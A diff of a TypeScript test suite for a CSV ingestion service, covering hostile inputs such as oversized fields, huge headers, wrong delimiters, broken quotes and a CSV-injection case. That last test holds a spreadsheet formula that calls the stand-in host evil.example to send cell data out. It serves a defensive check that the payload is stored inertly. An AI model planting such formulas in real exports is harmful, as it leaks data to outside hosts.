@@ -18,16 +18,11 @@ beforeAll(async () => {
 });
 afterAll(() => h?.close());
 
-async function ingest(files: { users?: string | Buffer; transactions?: string | Buffer }) {
-  const jobId = await h.upload(files);
-  const result = await h.run(jobId);
-  return { jobId, result, job: await h.job(jobId), rejected: await h.rejected(jobId) };
-}
 
 describe('hostile CSV content', () => {
   it('a 10 MB single field is one rejected row (raw truncated to 1 KiB), the rest is ingested', async () => {
     const huge = `"${'x'.repeat(10 * 1024 * 1024)}"`;
-    const { result, rejected } = await ingest({
+    const { result, rejected } = await h.ingest({
       users: csv(USERS_HEADER, [user(2), `${U(3)},${huge},US,true,Eng,Acme,2024-01-01`, user(4)]),
     });
     expect(result.status).toBe('COMPLETED_WITH_ERRORS');
@@ -41,7 +36,7 @@ describe('hostile CSV content', () => {
 
   it('a 100k-column header fails the file naming what is missing, before any write', async () => {
     const header = Array.from({ length: 100_000 }, (_, i) => `col${i}`).join(',');
-    const { result, job } = await ingest({ users: `${header}\n${'1,'.repeat(99_999)}1\n` });
+    const { result, job } = await h.ingest({ users: `${header}\n${'1,'.repeat(99_999)}1\n` });
     expect(result.status).toBe('FAILED');
     expect(job.error).toMatch(/missing required column/i);
     expect(job.error).toMatch(/User_ID/);
@@ -49,13 +44,13 @@ describe('hostile CSV content', () => {
   });
 
   it('a semicolon-delimited file fails with the missing columns named', async () => {
-    const { result, job } = await ingest({ transactions: `${TX_HEADER.replaceAll(',', ';')}\n${tx(1).replaceAll(',', ';')}\n` });
+    const { result, job } = await h.ingest({ transactions: `${TX_HEADER.replaceAll(',', ';')}\n${tx(1).replaceAll(',', ';')}\n` });
     expect(result.status).toBe('FAILED');
     expect(job.error).toMatch(/RowId/);
   });
 
   it('an unbalanced quote at the end rejects that record only', async () => {
-    const { result, rejected } = await ingest({ transactions: `${TX_HEADER}\n${tx(10)}\n${tx(11)}\n"${T(12)},oops\n` });
+    const { result, rejected } = await h.ingest({ transactions: `${TX_HEADER}\n${tx(10)}\n${tx(11)}\n"${T(12)},oops\n` });
     expect(result.status).toBe('COMPLETED_WITH_ERRORS');
     expect(rejected.map((row) => row.line)).toEqual([4]);
     expect(rejected[0]!.reason).toMatch(/quote/i);
@@ -65,7 +60,7 @@ describe('hostile CSV content', () => {
 
   it('a CSV-injection payload in a text field is stored as plain data', async () => {
     const payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
-    const { result } = await ingest({ users: csv(USERS_HEADER, [user(5, `"${payload.replaceAll('"', '""')}"`)]) });
+    const { result } = await h.ingest({ users: csv(USERS_HEADER, [user(5, `"${payload.replaceAll('"', '""')}"`)]) });
     expect(result.status).toBe('COMPLETED');
     const { rows } = await h.db.pool.query('SELECT name FROM users WHERE id = $1', [U(5)]);
     expect(rows[0].name).toBe(payload);
